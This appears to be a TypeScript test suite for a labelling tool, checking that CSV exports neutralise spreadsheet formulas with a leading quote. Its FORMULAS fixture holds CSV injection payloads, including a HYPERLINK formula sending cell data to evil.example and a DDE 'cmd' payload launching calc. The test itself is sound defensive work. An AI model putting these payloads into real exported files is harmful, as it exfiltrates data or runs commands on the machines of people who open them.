import fs from 'node:fs';
import path from 'node:path';
import { PassThrough, type Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { neutralizeCell } from '../../src/core/csv-cells.js';
import { Ingestor } from '../../src/core/ingest.js';
import { writeItems } from '../../src/core/item-export.js';
import type { Item } from '../../src/core/items.js';
import { createSource } from '../../src/core/sources.js';
import { escapeHtml, exportProject, type ExportOptions } from '../../src/labeling/export.js';
import { createProject, getProject } from '../../src/labeling/projects.js';
import { getTaskContext, nextTask, submitAnnotation } from '../../src/labeling/tasks.js';
import { createUser } from '../../src/labeling/users.js';
import { writeSnapshot } from '../../src/ml/snapshots/snapshot-export.js';
import type { SnapshotRow } from '../../src/ml/snapshots/snapshot-store.js';
import { runCli } from '../helpers/cli.js';
import { describeEachStore, tempDir } from '../helpers/stores.js';

/**
 * CSV exports never hand a spreadsheet a formula (OWASP's CSV injection rule): a cell starting
 * with =, +, -, @, a tab or a carriage return gets a leading single quote; plain numbers stay as
 * they are, and `rawCells` writes every cell as stored.
 */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\0=1+1'];
/** What items can hold: their text keeps line breaks as \n, and PostgreSQL text has no NUL. */
const STORED_FORMULAS = FORMULAS.filter((f) => !/^[\r\0]/.test(f));

async function collect(write: (out: Writable) => Promise<unknown>): Promise<string[][]> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await write(out);
  return parse(Buffer.concat(chunks).toString('utf8'), { relaxQuotes: false }) as string[][];
}

function column(rows: string[][], name: string): string[] {
  const i = rows[0].indexOf(name);
  return rows.slice(1).map((r) => r[i]);
}

describe('the cell rule', () => {
  test.each(FORMULAS.map((f) => [f]))('%j gets a leading single quote', (formula) => {
    expect(neutralizeCell(formula)).toBe(`'${formula}`);
  });

  test.each([['-3.5'], ['+7'], ['-1e-3'], ['.5'], ['plain text'], ['a=b'], ['']])('%j stays as it is', (value) => {
    expect(neutralizeCell(value)).toBe(value);
  });
});

describe('items and snapshot CSV', () => {
  const items: Item[] = FORMULAS.map((text, i) => ({ id: i + 1, source: 'src', key: `=k${i}`, url: null, text, fields: {}, contentHash: 'h', fetchedAt: '2026-01-01T00:00:00.000Z' }));
  async function* each<T>(xs: T[]): AsyncGenerator<T> {
    yield* xs;
  }

  test('items export --format csv neutralises text and key cells', async () => {
    const rows = await collect((out) => writeItems(each(items), 'csv', out));

    expect(column(rows, 'text')).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(column(rows, 'key')).toEqual(items.map((i) => `'${i.key}`));
  });

  test('items export with rawCells writes every cell as stored', async () => {
    const rows = await collect((out) => writeItems(each(items), 'csv', out, { rawCells: true }));

    expect(column(rows, 'text')).toEqual(FORMULAS);
  });

  test('snapshot CSV neutralises labels and features, and keeps numbers', async () => {
    const snapshot: SnapshotRow[] = [{ itemId: 1, key: 'a', url: null, features: { note: '=1+1', delta: -3.5, code: '-3.5' }, label: '@home', confidence: null }];
    const rows = await collect((out) => writeSnapshot(each(snapshot), 'csv', out));
    const raw = await collect((out) => writeSnapshot(each(snapshot), 'csv', out, { rawCells: true }));

    expect([column(rows, 'note'), column(rows, 'label'), column(rows, 'delta'), column(rows, 'code')]).toEqual([["'=1+1"], ["'@home"], ['-3.5'], ['-3.5']]);
    expect([column(raw, 'note'), column(raw, 'label')]).toEqual([['=1+1'], ['@home']]);
  });
});

describeEachStore('project CSV exports', (get) => {
  let projectName: string;

  beforeAll(async () => {
    const { hub } = get();
    const source = await createSource(hub.store.db, { name: `formulas-${process.pid}`, kind: 'file', config: { path: '/dev/null' } });
    const ingestor = new Ingestor(hub.store, { sourceId: source.id, runId: null, listeners: hub.ingestListeners });
    for (const [i, text] of STORED_FORMULAS.entries()) await ingestor.add({ key: `@key${i}`, text });
    await ingestor.flush();
    const project = await createProject(hub.store.db, { name: `formulas-${process.pid}`, sources: [source.name], schema: { kind: 'single', labels: [{ value: '+good' }, { value: '-3.5' }] }, overlap: 2, ordering: 'source' });
    projectName = project.name;
    const user = await createUser(hub.store.db, { name: `-annotator-${process.pid}`, role: 'annotator' });
    for (const label of ['+good', '-3.5']) {
      const next = await nextTask(hub.store.db, project, user.id);
      if (!next) throw new Error('no task');
      await submitAnnotation(hub.store.db, project, await getTaskContext(hub.store.db, next.task.id), user.id, { clientId: `formula-${label}-${process.pid}`, result: { label } });
    }
  });

  async function exported(opts: ExportOptions): Promise<string[][]> {
    const project = await getProject(get().hub.store.db, projectName);
    return collect((out) => exportProject(get().hub.store.db, project, opts, out));
  }

  test('the annotations CSV neutralises keys, annotators and labels, and keeps -3.5', async () => {
    const rows = await exported({ format: 'csv' });

    expect(column(rows, 'key')).toEqual(["'@key0", "'@key1"]);
    expect(column(rows, 'annotator')).toEqual([`'-annotator-${process.pid}`, `'-annotator-${process.pid}`]);
    expect(column(rows, 'label')).toEqual(["'+good", '-3.5']);
  });

  test('the aggregated CSV neutralises keys and labels', async () => {
    const rows = await exported({ format: 'csv', aggregate: 'majority' });

    expect(column(rows, 'key')).toEqual(["'@key0", "'@key1"]);
    expect(column(rows, 'label')).toEqual(["'+good", '-3.5']);
  });

  test('the crowd CSV neutralises item text', async () => {
    const rows = await exported({ format: 'crowd-csv' });

    expect(column(rows, 'text')).toEqual(STORED_FORMULAS.map((f) => `'${escapeHtml(f)}`));
  });

  test('rawCells writes the crowd CSV and the annotations CSV as stored', async () => {
    const crowd = await exported({ format: 'crowd-csv', rawCells: true });
    const annotations = await exported({ format: 'csv', rawCells: true });

    expect(column(crowd, 'text').every((t) => !t.startsWith("'"))).toBe(true);
    expect(column(annotations, 'label')).toEqual(['+good', '-3.5']);
  });
});

describe('the --raw-cells flag', () => {
  test('items export --format csv neutralises by default and writes raw cells with --raw-cells', async () => {
    const dir = tempDir('trove-csv-cli-');
    const file = path.join(dir, 'rows.csv');
    fs.writeFileSync(file, 'id,body\n1,"=1+1"\n2,-3.5\n');
    const env = { TROVE_DATA_DIR: undefined, DATABASE_URL: undefined };
    expect((await runCli(['import', file, '--source', 'rows', '--key', 'id', '--text', 'body', '--data-dir', dir], { env })).code).toBe(0);
    const safe = await runCli(['items', 'export', '--source', 'rows', '--format', 'csv', '--data-dir', dir], { env });
    const raw = await runCli(['items', 'export', '--source', 'rows', '--format', 'csv', '--raw-cells', '--data-dir', dir], { env });

    expect(column(parse(safe.stdout) as string[][], 'text')).toEqual(["'=1+1", '-3.5']);
    expect(column(parse(raw.stdout) as string[][], 'text')).toEqual(['=1+1', '-3.5']);
  });
});
